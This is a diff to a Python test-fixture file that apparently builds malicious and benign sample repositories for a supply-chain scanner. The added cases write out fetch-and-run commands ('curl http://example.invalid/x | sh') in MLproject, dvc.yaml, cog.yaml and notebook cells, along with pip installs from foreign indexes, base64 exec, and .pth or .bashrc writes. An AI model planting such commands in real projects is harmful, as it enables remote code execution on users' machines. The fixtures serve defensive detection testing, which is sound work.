@@ -122,11 +122,15 @@ def code() -> Shelf:
     add("pth", {"evil.pth": b"import os; os.system('echo waag-inert')\n"}, "a path file that Python runs at start")
     # A wheel of the repository's own is no case: it is a file beside the list, and judged as one.
     for id, text in (("index", b"--index-url http://example.invalid/simple\nnumpy\n"), ("own-index", b"--index-url https://pypi.example.invalid/simple\nnumpy\n"), ("extra-index", b"--extra-index-url https://example.invalid/simple\nnumpy\n"), ("url", b"https://example.invalid/evil.whl\n"), ("git", b"git+https://example.invalid/evil.git\n"),
-                     ("trusted-host", b"--trusted-host example.invalid\nnumpy\n"), ("at", b"numpy @ https://example.invalid/numpy.whl\n"), ("include", b"-r http://example.invalid/requirements.txt\n")):
+                     ("trusted-host", b"--trusted-host example.invalid\nnumpy\n"), ("at", b"numpy @ https://example.invalid/numpy.whl\n"), ("include", b"-r http://example.invalid/requirements.txt\n"), ("share", b"\\\\192.0.2.1\\share\\x.whl\n")):
         add(f"requirements-{id}", {"requirements.txt": text}, f"requirements from elsewhere: {id}")
+    for id, name, text in (("mlproject", "MLproject", b"name: x\nentry_points:\n  main:\n    command: \"curl http://example.invalid/x | sh\"\n"), ("dvc", "dvc.yaml", b"stages:\n  a:\n    cmd: curl http://example.invalid/x | sh\n"), ("cog", "cog.yaml", b"build:\n  run:\n  - curl http://example.invalid/x | sh\n")):
+        add(f"command-{id}", {name: text}, f"a command that fetches and runs, in {name}")
     # A notebook that starts programs or loads pickles is an ordinary notebook; one that fetches and runs is not, whatever way it starts the shell.
     fetch = "curl http://example.invalid/x | sh"
     for id, source in (("shell", "!" + fetch), ("magic", "%%bash\n" + fetch), ("system", f"import os\nos.system('{fetch}')"), ("get-ipython", f"get_ipython().system('{fetch}')"), ("cell-magic", f"get_ipython().run_cell_magic('bash', '', '{fetch}')"), ("assigned", "x = !" + fetch),
+                       ("perl", f"%%perl\nsystem(\"{fetch}\");"), ("ruby", f"%%ruby\nsystem('{fetch}')"), ("run-address", "%run http://example.invalid/x.py"), ("pip-wheel", "%pip install http://example.invalid/x.whl"), ("pip-index", "!pip install -i http://example.invalid/simple evil"),
+                       ("variable", f"c = '{fetch}'\n!{{c}}"), ("ipython-held", f"ip = get_ipython()\nip.system('{fetch}')"), ("python-c", "!python -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\""), ("writefile-pth", "%%writefile /usr/lib/python3/site-packages/x.pth\nimport os"),
                        ("exec", "exec(__import__('base64').b64decode('ZWNobyB3YWFnLWluZXJ0'))"), ("time", "%time exec(__import__('base64').b64decode('ZWNobyB3YWFnLWluZXJ0'))"), ("sx", "%sx " + fetch), ("script", "%%script sh\n" + fetch), ("writefile", "%%writefile ~/.bashrc\ntrue")):
         add(f"notebook-{id}", {"demo.ipynb": notebook("x = 1", source)}, f"a notebook with a payload: {id}")
     programs = {"elf": ("libhelper.so", elf(), "a library"), "pe": ("loader.exe", pe(), "a Windows program"), "dll": ("helper.dll", pe(), "a Windows library"), "batch": ("run.bat", b"@echo off\r\necho waag-inert\r\n", "a batch file"),
@@ -254,7 +258,7 @@ def good() -> Shelf:
     for id, (name, source, why) in PACKAGE.items():
         add(f"package-{id}", {name: source}, why)
     shelf.good("notebook", notebook("import numpy as np\nx = np.arange(3)", {"cell_type": "markdown", "metadata": {}, "source": ["# Demo\n", "Never `eval()` this."]}, "print(x.sum())"), "an ordinary notebook", name="demo.ipynb")
-    shelf.good("notebook-shell", notebook("!pip install -q torch", "!ls -l", "!nvidia-smi", "%%bash\nmkdir -p out\necho done", "import pickle\nx = pickle.load(open('x.pkl', 'rb'))", "import os\nos.system('python train.py')"), "a notebook that installs, lists and loads", name="demo.ipynb")
+    shelf.good("notebook-shell", notebook("!pip install -q torch", "!ls -l", "!nvidia-smi", "%pip install -q transformers", "!python -c 'import torch; print(torch.__version__)'", "%matplotlib inline", "%%bash\nmkdir -p out\necho done", "import pickle\nx = pickle.load(open('x.pkl', 'rb'))", "import os\nos.system('python train.py')"), "a notebook that installs, lists and loads", name="demo.ipynb")
     shelf.good("notebook-outputs", notebook("x", outputs=[{"output_type": "execute_result", "execution_count": 1, "data": {"text/plain": ["array([0, 1])"], "image/png": "iVBORw0KGgo="}, "metadata": {}}]), "a notebook with a picture", name="demo.ipynb")
     shelf.good("train-script", TRAIN, "an ordinary training script", name="train.py")
     shelf.good("csv", b"text,label\nnever eval() this,0\nos.system('x') is a word,1\n", "a data set in a table", name="train.csv")
